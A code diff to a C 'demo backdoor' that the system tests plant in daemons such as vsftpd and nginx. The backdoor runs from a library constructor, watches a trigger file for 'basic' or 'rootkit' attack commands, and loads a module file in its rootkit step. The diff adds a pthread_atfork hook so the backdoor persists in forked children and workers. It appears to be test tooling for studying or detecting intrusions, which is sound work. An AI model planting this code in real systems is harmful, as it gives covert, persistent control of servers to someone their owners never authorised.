@@ -15,8 +15,9 @@
  * The system tests plant it in other daemons too: DEMO_BACKDOOR_IN names
  * the program to live in (a substring of its path, default vsftpd),
  * DEMO_BACKDOOR_TRIGGER the command file (default /run/attack),
- * DEMO_BACKDOOR_TAG the syslog tag (default intruder) and
- * DEMO_BACKDOOR_MODULE the module file the rootkit step loads.
+ * DEMO_BACKDOOR_TAG the syslog tag (default intruder),
+ * DEMO_BACKDOOR_MODULE the module file the rootkit step loads, and
+ * DEMO_BACKDOOR_FORKS keeps it in the daemon's forked children.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -172,11 +173,13 @@ static void attack(int rootkit)
 	free(report);
 }
 
+/* The last command run: a forked child inherits it and does not rerun it. */
+static char last[32];
+
 /* Each new command in the trigger ("N basic", "N rootkit") runs once. */
 static void *watch(void *arg)
 {
 	const char *trigger = arg;
-	char last[32] = "";
 
 	for (;;) {
 		char buf[32] = "";
@@ -196,9 +199,18 @@ static void *watch(void *arg)
 	return NULL;
 }
 
-__attribute__((constructor)) static void plant(void)
+static void start_watching(void)
 {
 	pthread_t t;
+
+	if (!pthread_create(&t, NULL, watch,
+			    (void *)setting("DEMO_BACKDOOR_TRIGGER",
+					    "/run/attack")))
+		pthread_detach(t);
+}
+
+__attribute__((constructor)) static void plant(void)
+{
 
 	/* Only in the daemon itself, not in programs it might run. */
 	if (!strstr(program_invocation_name,
@@ -208,7 +220,12 @@ __attribute__((constructor)) static void plant(void)
 	if (!getenv("DEMO_BACKDOOR_SYSLOG"))
 		log_fd = open("/run/attack.log", O_WRONLY | O_CREAT |
 			      O_APPEND | O_CLOEXEC, 0600);
-	pthread_create(&t, NULL, watch,
-		       (void *)setting("DEMO_BACKDOOR_TRIGGER", "/run/attack"));
-	pthread_detach(t);
+	start_watching();
+	/*
+	 * A thread does not survive fork(): with DEMO_BACKDOOR_FORKS set,
+	 * the children watch too, so the intruder stays in a daemon that
+	 * forks itself into the background (nginx) and in its workers.
+	 */
+	if (getenv("DEMO_BACKDOOR_FORKS"))
+		pthread_atfork(NULL, NULL, start_watching);
 }
